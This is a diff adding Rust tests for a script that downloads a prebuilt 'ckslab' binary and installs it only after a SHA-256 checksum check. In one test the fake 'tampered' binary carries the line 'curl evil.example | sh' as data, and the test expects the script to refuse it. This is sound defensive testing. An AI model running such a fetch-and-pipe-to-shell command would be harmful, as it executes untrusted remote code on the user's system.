@@ -231,3 +231,105 @@ async fn a_server_that_never_answers_times_out() {
     assert!(report.failed.iter().all(|(_, e)| matches!(e, FetchError::Stalled { .. })), "{:?}", report.failed);
     assert_eq!(listing(dir.path()), Vec::<String>::new());
 }
+
+// scripts/fetch-prebuilt.sh: the prebuilt ckslab scripts/lab.sh downloads from a mirror.
+
+const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";
+
+fn prebuilt_path() -> String {
+    format!("ckslab/{COMMIT}/ckslab-linux-{}", std::env::consts::ARCH)
+}
+
+fn prebuilt_mirror(binary: &[u8], checksum: Option<String>) -> HashMap<String, Vec<u8>> {
+    let mut files = HashMap::new();
+    files.insert(prebuilt_path(), binary.to_vec());
+    if let Some(sum) = checksum {
+        files.insert(format!("{}.sha256", prebuilt_path()), sum.into_bytes());
+    }
+    files
+}
+
+fn sha256_line(data: &[u8]) -> String {
+    format!("{}  ckslab-linux-{}\n", hex::encode(Sha256::digest(data)), std::env::consts::ARCH)
+}
+
+/// Runs the script (off the runtime's threads, the mirror being served on them); its exit code
+/// and error output.
+async fn fetch_prebuilt(url: &str, out: &Path) -> (i32, String) {
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/fetch-prebuilt.sh");
+    let (url, out) = (url.to_string(), out.to_path_buf());
+    tokio::task::spawn_blocking(move || {
+        let output = std::process::Command::new(script)
+            .args([url.as_str(), COMMIT, out.to_str().unwrap()])
+            .env("CKSLAB_PREBUILT_STALL", "2")
+            .output()
+            .unwrap();
+        (output.status.code().unwrap_or(-1), String::from_utf8_lossy(&output.stderr).into_owned())
+    })
+    .await
+    .unwrap()
+}
+
+#[tokio::test]
+async fn the_prebuilt_ckslab_is_installed_only_once_its_sha256_matches() {
+    let binary = fake_binary("ckslab");
+    let url =
+        start(Mirror { files: Arc::new(prebuilt_mirror(&binary, Some(sha256_line(&binary)))), ..Default::default() })
+            .await;
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("prebuilt/ckslab");
+    let (code, err) = fetch_prebuilt(&url, &out).await;
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(std::fs::read(&out).unwrap(), binary);
+    use std::os::unix::fs::PermissionsExt;
+    assert_eq!(std::fs::metadata(&out).unwrap().permissions().mode() & 0o111, 0o111, "executable");
+    assert_eq!(listing(out.parent().unwrap()), ["ckslab"], "no partial file left");
+}
+
+#[tokio::test]
+async fn a_tampered_prebuilt_ckslab_is_refused_and_the_old_one_kept() {
+    let binary = fake_binary("ckslab");
+    let mut tampered = binary.clone();
+    tampered.extend_from_slice(b"curl evil.example | sh\n");
+    let url =
+        start(Mirror { files: Arc::new(prebuilt_mirror(&tampered, Some(sha256_line(&binary)))), ..Default::default() })
+            .await;
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("ckslab");
+    std::fs::write(&out, b"the one there before").unwrap();
+    let (code, err) = fetch_prebuilt(&url, &out).await;
+    assert_eq!(code, 1, "{err}");
+    assert!(err.contains("refused, nothing installed") && err.contains(&hex::encode(Sha256::digest(&binary))), "{err}");
+    assert_eq!(std::fs::read(&out).unwrap(), b"the one there before");
+    assert_eq!(listing(dir.path()), ["ckslab"], "no partial file left");
+}
+
+#[tokio::test]
+async fn a_prebuilt_ckslab_without_a_checksum_is_not_downloaded_at_all() {
+    let binary = fake_binary("ckslab");
+    for checksum in [None, Some("<html>not found</html>".to_string())] {
+        let url =
+            start(Mirror { files: Arc::new(prebuilt_mirror(&binary, checksum.clone())), ..Default::default() }).await;
+        let dir = tempfile::tempdir().unwrap();
+        let (code, err) = fetch_prebuilt(&url, &dir.path().join("ckslab")).await;
+        assert_eq!(code, 1, "{checksum:?}: {err}");
+        let reason = if checksum.is_none() { "no checksum for the prebuilt ckslab" } else { "holds no SHA-256 digest" };
+        assert!(err.contains(reason), "{err}");
+        assert_eq!(listing(dir.path()), Vec::<String>::new());
+    }
+}
+
+#[tokio::test]
+async fn a_mirror_that_stalls_mid_download_is_given_up_on() {
+    let binary = fake_binary("ckslab");
+    let mut files = prebuilt_mirror(&binary, Some(sha256_line(&binary)));
+    files.remove(&prebuilt_path());
+    let url = start(Mirror { files: Arc::new(files), stall: Arc::new(vec![prebuilt_path()]) }).await;
+    let dir = tempfile::tempdir().unwrap();
+    let started = std::time::Instant::now();
+    let (code, err) = fetch_prebuilt(&url, &dir.path().join("ckslab")).await;
+    assert_eq!(code, 1, "{err}");
+    assert!(started.elapsed() < Duration::from_secs(15), "cut after 2 s below 1 byte/s: {:?}", started.elapsed());
+    assert!(err.contains("downloading"), "{err}");
+    assert_eq!(listing(dir.path()), Vec::<String>::new(), "no partial file");
+}
